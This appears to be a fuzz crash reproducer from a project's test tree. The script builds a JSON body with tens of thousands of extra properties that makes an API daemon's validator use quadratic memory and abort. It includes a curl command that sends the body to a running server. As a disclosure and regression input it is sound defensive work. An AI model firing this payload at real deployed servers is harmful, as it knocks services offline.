#!/usr/bin/env python3
"""Write the fuzz_api input of finding 1 (README.md): POST /servers as the
member "demo" with N unexpected members in "server". validate_object()
(src/api/json.c:360) builds "Additional properties are not allowed (...)" by
re-printing the whole list for every member, in the request's arena: time and
memory grow as N^2. N = 87000 fits in the 1 MiB body limit and needs tens of
GB; the daemon aborts ("attachd: out of memory", src/util/arena.c:54).

  python3 fuzz/crashes/fuzz_api-quadratic-extra-properties.py 16000 > /tmp/q
  fuzz/build/fuzz_api -rss_limit_mb=1024 /tmp/q       # out-of-memory report

The same body with curl against a running daemon:
  python3 fuzz/crashes/fuzz_api-quadratic-extra-properties.py 87000 --body > /tmp/b.json
  curl -u demo:secret -H 'Content-Type: application/json' --data-binary @/tmp/b.json \
       http://127.0.0.1:8774/servers
"""
import sys

n = int(sys.argv[1]) if len(sys.argv) > 1 else 87000
keys = ",".join('"k%06d":0' % i for i in range(n))
body = ('{"server": {"name": "x", "flavorRef": "1", "imageRef": "i", ' + keys + "}}").encode()
if "--body" in sys.argv:
    sys.stdout.buffer.write(body)
else:
    # POST (2), demo (1), no optional headers (0), path, four empty fields, body
    sys.stdout.buffer.write(bytes([2, 1, 0]) + b"/servers\n\n\n\n\n" + body)
